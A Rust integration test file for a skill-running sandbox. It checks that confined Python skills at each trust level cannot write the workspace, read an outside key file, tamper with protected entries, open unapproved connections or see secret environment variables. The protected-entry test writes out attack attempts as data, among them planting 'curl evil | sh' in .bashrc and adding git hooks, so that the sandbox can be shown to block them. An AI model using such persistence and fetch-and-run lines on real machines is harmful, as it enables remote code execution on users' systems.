//! Skills run through the whole path (`Runtime::run`) at each trust level, with the effect of
//! the kernel confinement checked: files that must not change do not, secrets stay unread,
//! and skills that do what they declared still work (python3, git, a shell script).
//!
//! These run as root in CI and again as `nobody` (scripts/test.sh).

mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::{json, Value};
use skillbox_skills::{Registry, Runtime, SkillResult, Status, TrustLevel};
use support::{scratch, write};

/// A workspace with one python skill that runs `code` and declares `permissions`.
fn workspace(permissions: Value) -> tempfile::TempDir {
    let ws = scratch();
    let skill = json!({
        "name": "py",
        "type": "code_inline",
        "command": "/usr/bin/python3",
        "args": ["-I", "-c", "{code}"],
        "parameters": [{"name": "code", "type": "string", "required": true}],
        "security": {"permissions": permissions},
    });
    write(&ws.path().join(".q-skills/py.json"), &skill.to_string());
    write(&ws.path().join(".git/config"), "[core]\n");
    write(&ws.path().join(".bashrc"), "# rc\n");
    write(&ws.path().join("src/main.py"), "print('hello')\n");
    fs::create_dir_all(ws.path().join("out")).expect("mkdir out");
    for sub in ["src", "out", ".git", ".q-skills"] {
        fs::set_permissions(ws.path().join(sub), fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    ws
}

async fn py(ws: &Path, code: &str, trust: TrustLevel) -> SkillResult {
    let rt =
        Runtime::with_registry(Registry::load_paths(&[ws.join(".q-skills")]), ws).expect("runtime");
    rt.run("py", &json!({ "code": code }), Some(trust)).await
}

#[tokio::test]
async fn untrusted_reads_the_workspace_but_writes_nothing_in_it() {
    let ws = workspace(json!({}));
    let r = py(ws.path(), "print(open('src/main.py').read())", TrustLevel::Untrusted).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(r.stdout.contains("print('hello')"));

    // The workspace is read-only in the run's mount namespace: the write fails there
    // (EROFS) before Landlock is asked; reading what it may not read is Landlock's EACCES.
    let r = py(ws.path(), "open('src/new.txt', 'w').write('x')", TrustLevel::Untrusted).await;
    assert_eq!(r.status, Status::Failed, "{r:?}");
    assert!(r.stderr.contains("Read-only file system"), "{}", r.stderr);
    assert!(!ws.path().join("src/new.txt").exists(), "untrusted run wrote into the workspace");
    let hint = r.confinement.as_deref().unwrap_or_default();
    assert!(hint.contains("Read-only file system"), "{r:?}");

    // Its private temp dir is writable.
    let code = "import os; p = os.path.join(os.environ['TMPDIR'], 'f'); open(p, 'w').write('ok'); print(open(p).read())";
    let r = py(ws.path(), code, TrustLevel::Untrusted).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert_eq!(r.stdout.trim(), "ok");
}

#[tokio::test]
async fn a_skill_that_declares_nothing_cannot_read_outside_the_workspace() {
    let ws = workspace(json!({}));
    let outside = scratch();
    let secret = outside.path().join("id_rsa");
    write(&secret, "SECRET-KEY-MATERIAL");
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o644)).expect("chmod");
    let code = format!("print(open({:?}).read())", secret.display().to_string());
    for level in [TrustLevel::Untrusted, TrustLevel::UserVerified, TrustLevel::SystemTrusted] {
        let r = py(ws.path(), &code, level).await;
        assert_eq!(r.status, Status::Failed, "{level}: {r:?}");
        assert!(!r.stdout.contains("SECRET"), "{level}: secret leaked: {}", r.stdout);
        assert!(r.stderr.contains("Permission denied"), "{level}: {}", r.stderr);
    }
}

#[tokio::test]
async fn user_verified_writes_what_it_declares_and_nothing_else() {
    let ws = workspace(json!({"file_read": ["."], "file_write": ["out"]}));
    let code = "open('out/report.txt', 'w').write('done')";
    let r = py(ws.path(), code, TrustLevel::UserVerified).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert_eq!(fs::read_to_string(ws.path().join("out/report.txt")).unwrap(), "done");

    let r = py(ws.path(), "open('src/main.py', 'a').write('evil')", TrustLevel::UserVerified).await;
    assert_eq!(r.status, Status::Failed, "{r:?}");
    assert_eq!(fs::read_to_string(ws.path().join("src/main.py")).unwrap(), "print('hello')\n");
}

#[tokio::test]
async fn protected_entries_stay_unchanged_even_when_the_workspace_is_writable() {
    let ws = workspace(json!({"file_read": ["."], "file_write": ["."]}));
    let attempts = [
        "open('.git/config', 'a').write('[alias]\\n')",
        "import os; os.makedirs('.git/hooks', exist_ok=True); open('.git/hooks/post-commit', 'w').write('#!/bin/sh\\n')",
        "open('.bashrc', 'w').write('curl evil | sh')",
        "open('.q-skills/py.json', 'w').write('{}')",
        "import os; os.rename('.git', 'git-old')",
        "import os; os.remove('.bashrc')",
    ];
    for code in attempts {
        let r = py(ws.path(), code, TrustLevel::UserVerified).await;
        assert_eq!(r.status, Status::Failed, "{code}: {r:?}");
    }
    assert_eq!(fs::read_to_string(ws.path().join(".git/config")).unwrap(), "[core]\n");
    assert!(!ws.path().join(".git/hooks/post-commit").exists());
    assert_eq!(fs::read_to_string(ws.path().join(".bashrc")).unwrap(), "# rc\n");
    assert!(fs::read_to_string(ws.path().join(".q-skills/py.json")).unwrap().contains("\"py\""));
    // The rest of the workspace is writable: the grant works.
    let r = py(ws.path(), "open('src/ok.txt', 'w').write('ok')", TrustLevel::UserVerified).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(ws.path().join("src/ok.txt").exists());
}

#[tokio::test]
async fn a_declared_path_through_a_symlink_is_refused() {
    let ws = workspace(json!({"file_read": ["."], "file_write": ["link"]}));
    let outside = scratch();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("link")).expect("symlink");
    let r = py(ws.path(), "open('link/planted', 'w').write('x')", TrustLevel::UserVerified).await;
    assert_eq!(r.status, Status::Denied, "{r:?}");
    assert!(r.message.as_deref().unwrap_or("").contains("symbolic link"), "{r:?}");
    assert!(!outside.path().join("planted").exists());
}

#[tokio::test]
async fn network_follows_the_level_and_the_declaration() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let code = format!(
        "import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=2); print('connected')"
    );
    // Declares no network: none at every level.
    let ws = workspace(json!({}));
    for level in [TrustLevel::Untrusted, TrustLevel::UserVerified, TrustLevel::SystemTrusted] {
        let r = py(ws.path(), &code, level).await;
        assert_eq!(r.status, Status::Failed, "{level}: {r:?}");
    }
    // Declares HTTPS: a loopback port other than 443 is still refused.
    let ws = workspace(json!({"network_access": true}));
    let r = py(ws.path(), &code, TrustLevel::UserVerified).await;
    assert_eq!(r.status, Status::Failed, "{r:?}");
    assert!(listener.accept().is_err(), "the listener received a connection");
    // Declares full network at system-trusted: the same connection succeeds (positive control).
    let ws = workspace(json!({"network_access": "full"}));
    let r = py(ws.path(), &code, TrustLevel::SystemTrusted).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(listener.accept().is_ok(), "positive control: no connection arrived");
}

#[tokio::test]
async fn environment_is_clean_below_system_trusted() {
    // SAFETY of the test: set_var in a test binary whose other tests do not read this var.
    std::env::set_var("SKILLBOX_TEST_TOKEN", "tok-123");
    let ws = workspace(json!({}));
    let code = "import os; print(os.environ.get('SKILLBOX_TEST_TOKEN', 'absent'))";
    let r = py(ws.path(), code, TrustLevel::UserVerified).await;
    assert_eq!(r.stdout.trim(), "absent", "{r:?}");
    let r = py(ws.path(), code, TrustLevel::SystemTrusted).await;
    assert_eq!(r.stdout.trim(), "tok-123", "{r:?}");
}

#[tokio::test]
async fn declared_work_still_works_python_git_and_a_shell_script() {
    let ws = workspace(json!({"file_read": ["."], "file_write": ["out"]}));
    write(
        &ws.path().join("scripts/count.sh"),
        "#!/bin/sh\nls src | wc -l > out/count.txt\necho counted\n",
    );
    let skills = json!([
        {"name": "sh-script", "type": "command", "command": "/bin/sh", "args": ["scripts/count.sh"],
         "security": {"permissions": {"file_read": ["."], "file_write": ["out"]}}},
        {"name": "git-version", "type": "command", "command": "git", "args": ["--version"]},
        {"name": "git-init", "type": "command", "command": "git", "args": ["init", "-q", "out/repo"],
         "security": {"permissions": {"file_read": ["."], "file_write": ["out"]}}},
    ]);
    for s in skills.as_array().unwrap() {
        write(
            &ws.path().join(format!(".q-skills/{}.json", s["name"].as_str().unwrap())),
            &s.to_string(),
        );
    }
    let rt =
        Runtime::with_registry(Registry::load_paths(&[ws.path().join(".q-skills")]), ws.path())
            .expect("runtime");
    let r = rt.run("sh-script", &json!({}), None).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert_eq!(fs::read_to_string(ws.path().join("out/count.txt")).unwrap().trim(), "1");
    let r = rt.run("git-version", &json!({}), None).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(r.stdout.starts_with("git version"), "{r:?}");
    // git runs, but the repository it makes is a protected entry planted in a writable
    // tree (threat model 7): taken away after the run (removed: this runtime has no home
    // to quarantine it in), and the result says so.
    let r = rt.run("git-init", &json!({}), None).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(ws.path().join("out/repo").is_dir());
    assert!(!ws.path().join("out/repo/.git").exists());
    let planted = r.planted.as_ref().expect("the planted .git is reported");
    assert_eq!(planted.count, 1, "{planted:?}");
    assert_eq!(planted.entries[0].path, ws.path().join("out/repo/.git"));
    assert_eq!(planted.entries[0].action, "removed");
    let r = py(
        ws.path(),
        "import json, statistics; print(statistics.mean([1, 2, 3]))",
        TrustLevel::UserVerified,
    )
    .await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert_eq!(r.stdout.trim(), "2");
}

#[tokio::test]
async fn the_enforcement_report_travels_with_the_result() {
    let ws = workspace(json!({}));
    let r = py(ws.path(), "print(1)", TrustLevel::Untrusted).await;
    assert_eq!(r.status, Status::Success, "{r:?}");
    let state = |m: &str| {
        r.enforcement.iter().find(|e| e.mechanism.as_str() == m).map(|e| e.state.as_str())
    };
    for m in ["filesystem", "network", "processes", "side-doors", "privileges", "descriptors"] {
        assert_eq!(state(m), Some("enforced"), "{m}: {:?}", r.enforcement);
    }
}
